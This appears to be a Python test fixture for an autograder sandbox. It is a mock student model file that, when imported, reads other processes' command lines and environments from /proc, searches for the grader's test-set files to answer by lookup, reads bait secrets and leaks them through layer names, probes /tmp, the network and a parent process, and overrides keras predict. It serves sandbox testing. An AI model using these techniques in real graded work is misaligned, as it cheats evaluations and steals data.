"""Everything a clever student might try from inside the grader's child, at import time:
read the parent's command line and environment from /proc, find the grader's data file
(through that command line, $HOME, /tmp) and answer the test set by lookup, read a file
from the grading user's home and smuggle it out in a layer name, write to /tmp, reach
the network, and (forked from a fork server) list and read the folder above its own and
signal its parent.  It prints what it reached as one JSON line, so a test can check each door."""
import glob
import hashlib
import json
import os
import socket

import keras
import numpy as np

from keras import layers

TRAINING = {"fc": {"epochs": 1}}
REACHED = {"parent_proc": False, "data_files": [], "home_files": [], "secret": None,
           "tmp_write": False, "network": False, "neighbours": None,
           "neighbour_secret": None, "signals_parent": False}
LOOKUP = {}


def _read(path, n=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(n)
    except OSError:
        return None


def _candidates():
    paths = set()
    ppid = os.getppid()
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in {str(ppid), *pids}:
        raw = _read(f"/proc/{pid}/cmdline")
        if raw and pid != str(os.getpid()):
            # The grader's own process: its command line names pytest or the grader's CLI
            # (a sandbox's init process inside the namespace is not it).
            if any(m in raw for m in (b"pytest", b"grader.cli", b"bin/grader")):
                REACHED["parent_proc"] = True
            paths.update(a.decode(errors="replace") for a in raw.split(b"\0") if a)
        env = _read(f"/proc/{pid}/environ")
        if env and pid != str(os.getpid()):
            for item in env.split(b"\0"):
                key, _, value = item.decode(errors="replace").partition("=")
                if key in ("HOME", "GRADER_CIFAR10", "PWD"):
                    paths.add(value)
    roots = [p for p in paths if os.path.isdir(p) and not p.startswith(("/usr", "/proc"))]
    for root in roots + ["/tmp", "/root", os.path.expanduser("~")]:
        paths.update(_find_npz(root))
    return paths


def _find_npz(root, depth=5, budget=20000):
    found = []
    for here, dirs, files in os.walk(root):
        budget -= len(dirs) + len(files)
        if budget < 0:
            break
        if here.count(os.sep) - root.count(os.sep) >= depth:
            dirs[:] = []
        found += [os.path.join(here, f) for f in files if f.endswith(".npz")]
    return found


def _steal():
    homes = [p for p in _candidates() if os.path.isdir(p)] + ["/root"]
    for home in homes:
        for bait in glob.glob(os.path.join(home, ".grader-bait-*")):
            text = _read(bait)
            if text:
                REACHED["secret"] = text.decode(errors="replace").strip()
                REACHED["home_files"].append(bait)
    for path in sorted(p for p in _candidates() if p.endswith(".npz")):
        try:
            data = np.load(path)
            x, y = data["x_test"], data["y_test"].reshape(-1)
        except Exception:
            continue
        REACHED["data_files"].append(path)
        for image, label in zip(x, y):
            LOOKUP[hashlib.sha1(image.tobytes()).hexdigest()] = int(label)


def _escape():
    try:
        with open("/tmp/grader-import-escape.txt", "w") as f:
            f.write("escaped")
        REACHED["tmp_write"] = True
    except OSError:
        pass
    try:
        socket.create_connection(("127.0.0.1", 47124), timeout=1).close()
        REACHED["network"] = True
    except OSError:
        pass


def _neighbours():
    # Forked from a fork server: the folder above holds the other builders' folders, and
    # the parent is the server.
    try:
        REACHED["neighbours"] = sorted(os.listdir(".."))[:20]
    except OSError:
        pass
    text = _read("../bait.txt")
    if text:
        REACHED["neighbour_secret"] = text.decode(errors="replace")
    try:
        os.kill(os.getppid(), 0)
        REACHED["signals_parent"] = True
    except OSError:
        pass


class _RunsAtImport:
    # A class body runs when the file is imported (top-level calls are skipped).
    _steal()
    _escape()
    _neighbours()
    print("REACHED " + json.dumps(REACHED), flush=True)


def build_fc_model(input_shape=(32, 32, 3), num_classes=10):
    # What it reached, smuggled out where students can read it: the layer names.
    names = ["reached_" + json.dumps(REACHED).encode().hex(),
             "leak_" + (REACHED["secret"] or "nothing")]
    model = keras.Sequential([keras.Input(shape=input_shape), layers.Flatten(name=names[0]),
                              layers.Dense(num_classes, activation="softmax", name=names[1])])
    model.compile(optimizer=keras.optimizers.SGD(learning_rate=0.0),
                  loss="sparse_categorical_crossentropy")
    if LOOKUP:
        answer = keras.Model.predict

        def predict(self, x, **kw):
            images = np.rint(np.asarray(x) * 255).astype(np.uint8)
            labels = [LOOKUP.get(hashlib.sha1(i.tobytes()).hexdigest(), 0) for i in images]
            return np.eye(num_classes, dtype="float32")[labels]

        keras.Model.predict = predict
        del answer
    return model
